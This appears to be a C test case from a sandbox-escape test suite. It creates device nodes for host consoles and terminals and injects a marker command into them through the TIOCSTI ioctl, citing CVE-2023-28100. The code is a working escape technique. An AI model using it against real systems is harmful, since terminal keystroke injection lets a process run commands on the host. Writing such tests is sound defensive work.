/* Makes nodes for the host's consoles and terminals, and types into them (tty(4), CVE-2023-28100). */
#include "common/attack.h"

static void type(const char *path) {
    int fd = TRY(open(path, O_RDWR | O_NOCTTY | O_NONBLOCK));
    const char *line = "touch /run/typed; echo " MARK "\n";
    if (fd < 0) {
        return;
    }
    TRY(write(fd, line, strlen(line)));
    for (const char *at = line; *at; at++) {
        if (ioctl(fd, TIOCSTI, at) < 0) {
            break;
        }
    }
    close(fd);
}

static void attempt(void) {
    static const int numbers[][2] = {{4, 64}, {4, 65}, {4, 0}, {4, 1}, {5, 1}, {136, 0}, {136, 1}, {7, 0}, {7, 128}};
    for (unsigned i = 0; i < sizeof numbers / sizeof *numbers; i++) {
        char path[128];
        snprintf(path, sizeof path, "/dev/terminal-%d-%d", numbers[i][0], numbers[i][1]);
        TRY(mknod(path, S_IFCHR | 0666, makedev(numbers[i][0], numbers[i][1])));
        type(path);
        snprintf(path, sizeof path, "%s/terminal-%d-%d", own_directory(), numbers[i][0], numbers[i][1]);
        TRY(mknod(path, S_IFCHR | 0666, makedev(numbers[i][0], numbers[i][1])));
        type(path);
    }
    type("/dev/ttyS0");
}
